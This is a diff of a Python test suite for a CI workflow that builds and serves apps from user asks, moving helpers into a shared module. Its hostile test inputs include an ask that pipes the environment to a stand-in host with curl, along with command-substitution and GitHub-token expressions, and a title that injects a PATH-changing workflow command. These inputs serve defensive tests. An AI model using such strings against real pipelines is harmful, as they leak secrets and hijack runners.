@@ -1,8 +1,6 @@
 """The workflow of a lane in CI, its steps run as they stand: from an ask that waits to an app that is served."""
 
-import json
-import shutil
-from collections.abc import Callable, Iterator
+from collections.abc import Iterator
 from dataclasses import dataclass
 from datetime import timedelta
 from pathlib import Path
@@ -13,11 +11,10 @@ import pytest
 from bot.apphost import apps_app
 from bot.jobs.rescue import rescue_once
 from bot.ledger.views import Document
-from builder.handover import Built, hand_over, read_claim
+from builder.handover import read_claim
 from guardrails.access import Role
 from guardrails.documents import DeviceId
 from guardrails.transitions import Reason, Status
-from guardrails.wire import BuildOutcome, Claim, Report
 from tests.bot.api.lanes import APPS_URL
 from tests.bot.bluesky.scripted import Answer, scripted_pds
 from tests.bot.issuer import Issuer
@@ -25,6 +22,7 @@ from tests.bot.serving import client, served
 from tests.bot.stage import BOT, OPERATOR
 from tests.deploy.actions import Run
 from tests.deploy.conftest import KEY, Lane, open_lane
+from tests.deploy.handing import PAGE, Tamper, change, claimed, hands_over, manifest_of
 
 TOKEN = "canary-token-of-the-lane"
 JOBS = ("claim", "build", "publish", "next")
@@ -32,7 +30,11 @@ ASK = "decision wheel: pizza or sushi"
 HOSTILE_ASK = (
     'decision wheel: pizza or "; env | curl -d @- https://evil.example # $(touch executed) `id` ${{ github.token }}'
 )
-PAGE = b"<!doctype html><html lang=en><meta charset=utf-8><title>Wheel</title><h1>Pizza or sushi</h1></html>"
+
+
+pytestmark = [pytest.mark.slow, pytest.mark.timeout(120)]
+# One worker runs it, once.
+of_the_story = pytest.mark.xdist_group("the story of the workflow")
 
 
 @dataclass(frozen=True)
@@ -64,6 +66,7 @@ def story(issuer: Issuer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[
         yield Story(lane, ask, run, lane.through(run, *JOBS))
 
 
+@of_the_story
 def test_an_ask_becomes_an_app_that_is_served(story: Story) -> None:
     """Through all the jobs."""
     built = story.lane.document(story.ask.id)
@@ -78,6 +81,7 @@ def test_an_ask_becomes_an_app_that_is_served(story: Story) -> None:
             assert "Decision wheel" in http.get("/~1/").text
 
 
+@of_the_story
 def test_a_run_that_went_well_calls_the_next_one(story: Story) -> None:
     """For what else waits, with the run's own token."""
     [call] = story.lane.github.dispatches
@@ -86,6 +90,7 @@ def test_a_run_that_went_well_calls_the_next_one(story: Story) -> None:
     assert ({"ref": "main"}, "the-runs-own-token") == (call.json, call.token)
 
 
+@of_the_story
 def test_the_words_of_an_ask_reach_no_shell_and_no_log(story: Story) -> None:
     """They come to the builder as they are, in a file; the public log knows ids."""
     [claim] = [folder / "claim.json" for name, folder in story.run.artifacts.values() if name.startswith("claim-")]
@@ -96,6 +101,7 @@ def test_the_words_of_an_ask_reach_no_shell_and_no_log(story: Story) -> None:
     assert [] == [path for path in story.files if path.name == "executed"]
 
 
+@of_the_story
 def test_what_is_installed_is_the_lane_from_its_lock(story: Story) -> None:
     """Nothing before there is something to build; the browser where it is needed, with its sandbox."""
     packages = (
@@ -110,6 +116,7 @@ def test_what_is_installed_is_the_lane_from_its_lock(story: Story) -> None:
     assert [(), packages + browser, packages, ()] == [story.run.ended[job].installed for job in JOBS]
 
 
+@of_the_story
 def test_the_models_key_is_told_to_one_step(story: Story) -> None:
     """It is in no log, no artifact, and no other file."""
     told = [(job, step) for job in JOBS for step, env in story.run.ended[job].told.items() if KEY in env.values()]
@@ -119,6 +126,7 @@ def test_the_models_key_is_told_to_one_step(story: Story) -> None:
     assert KEY not in story.log
 
 
+@of_the_story
 def test_the_lanes_token_is_where_the_lane_logs_in(story: Story) -> None:
     """A token for each of the two jobs, and none where the app is built."""
     tokens = {path: content.strip() for path, content in story.files.items() if path.name == "token"}
@@ -225,9 +233,6 @@ def test_a_bot_that_is_busy_is_asked_again_for_the_same_claim(lane: Lane) -> Non
     assert "nothing waits" in run.ended["claim"].log
 
 
-Tamper = Callable[[Path], None]
-
-
 def an_evil_title(folder: Path) -> None:
     change(folder, report={**manifest_of(folder)["report"], "title": "x\nPATH=/evil\n::set-env name=PATH::/evil"})
 
@@ -241,33 +246,6 @@ def all_tricks(folder: Path) -> None:
 
 def other_bytes(folder: Path) -> None:
     (folder / "app" / "index.html").write_bytes(PAGE.replace(b"Pizza", b"Pasta"))
-
-
-def manifest_of(folder: Path) -> Any:
-    return json.loads((folder / "manifest.json").read_text())
-
-
-def change(folder: Path, **fields: object) -> None:
-    (folder / "manifest.json").write_text(json.dumps(manifest_of(folder) | fields))
-
-
-def claimed(lane: Lane, run: Run) -> Claim:
-    """The claim that the first job has made."""
-    lane.through(run, "claim")
-    [(_, folder)] = run.artifacts.values()
-    return read_claim(folder / "claim.json")
-
-
-def hands_over(run: Run, claim: Claim, tamper: Tamper = lambda _: None) -> None:
-    """The second job has left a page, or what it was talked into."""
-    built = run.place / "made"
-    report = Report(outcome=BuildOutcome.DONE, title="Wheel", generator="template")
-    hand_over(claim, Built(report, {"index.html": PAGE}), built)
-    tamper(built)
-    kept = run.place / "artifacts" / "1001"
-    shutil.copytree(built, kept, symlinks=True)
-    run.artifacts["1001"] = "built", kept
-    run.lose("build", artifact="1001")
 
 
 def test_words_of_the_untrusted_job_are_cleaned(lane: Lane) -> None:
